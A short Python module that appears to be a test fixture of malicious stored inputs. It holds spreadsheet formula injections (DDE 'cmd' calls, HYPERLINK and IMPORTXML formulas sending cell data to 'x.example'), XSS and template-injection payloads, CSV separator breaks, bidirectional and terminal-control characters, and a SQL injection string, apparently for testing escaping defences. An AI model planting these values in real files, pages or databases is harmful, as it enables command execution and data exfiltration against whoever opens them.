"""Fifty texts that somebody might store to harm whoever looks at them."""

from __future__ import annotations

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=",
    "=\u202e1+1",
)
APOSTROPHES = ("'", "'=1+1", "''", "'text")
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</pre><svg onload=alert(1)>",
    "\"><b onmouseover='alert(1)'>",
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7}",
    "&lt;script&gt;",
)
SEPARATORS = (
    'a","=1+1","',
    '";=1+1;"',
    "a;=1+1",
    "a,=1+1",
    "\u2028=1+1",
    "a\u2029b",
    '"',
    '""',
    "a\\",
    '\\",',
)
TERMINAL = ("\u202eevil", "\u2066x\u2069", "\u200b", "a\u0301\u0301\u0301", "\ufeff")
OTHER = ("%s%n", "' OR 1=1 --")
TEXTS = (*FORMULAS, *APOSTROPHES, *MARKUP, *SEPARATORS, *TERMINAL, *OTHER)
# No key may have these, but a value, a user's name or a webhook's title may.
CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\x1b[31mred", "\x9b31mred", "\x07", "a\r\nb")
